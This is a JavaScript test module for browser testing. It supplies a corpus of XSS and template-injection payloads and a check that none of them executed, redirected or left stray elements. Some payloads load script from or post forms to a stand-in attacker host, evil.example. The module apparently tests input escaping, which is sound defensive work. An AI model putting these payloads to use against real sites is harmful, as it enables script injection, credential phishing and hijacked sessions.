// What strangers write into fields, and how to see that none of it ran.

import assert from 'node:assert/strict';

/** Each would set `window.ran`, open a dialog, add an element or break out of where it is put. */
export const CORPUS = [
  '<script>ran=1</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=ran=1>',
  '\'"><iframe srcdoc="<script>top.ran=1</script>">',
  '</title></style></textarea></script><script>ran=1</script>',
  '" autofocus onfocus="ran=1',
  'javascript:ran=1//',
  '<a href="javascript:ran=1">x</a>',
  '<style>*{display:none}</style><meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example/><form action=//evil.example><button>Pay</button>',
  '{{7*7}}${7*7}<%= 7*7 %>{0}{1}{}',
  '&lt;script&gt;ran=1&lt;/script&gt;&#60;img src=x onerror=ran=1&#62;',
  '\u202e<b>\u0301\u{1f4a3}</b>',
  '<!--<script>ran=1',
  '`${ran=1}`',
];

/** Everything at once, as short as a name may be. */
export const NAME = '"\'><img src=x onerror=ran=1><script>ran=1</script></title>{0}{1}';

/** What a simulated network says in the stories 017 and 217. */
export const OF_NETWORKS = '\'"><script>ran=1</script><img src=x onerror=ran=1></title>{0}';

/** What no page of ours has. */
const STRANGE = [
  'img, iframe, object, base, style, b, [http-equiv], [onfocus], [onload], [onerror]',
  'script:not([src^="/assets/"]), a[href^="javascript"]',
].join();

/** `forms` is the beginning of every address that the page's forms are sent to. */
export async function checkNothingRan(visitor, text, forms) {
  const strange = `${STRANGE}, form[action]:not([action=""], [action^="${forms}"])`;
  const found = await visitor.page.evaluate((strange) => ({
    ran: window.ran,
    strange: [...document.querySelectorAll(strange)].map((element) => element.outerHTML),
    host: location.host,
  }), strange);
  assert.deepEqual(found, { ran: undefined, strange: [], host: new URL(visitor.page.url()).host }, text);
  assert.deepEqual(visitor.faults, [], text);
}
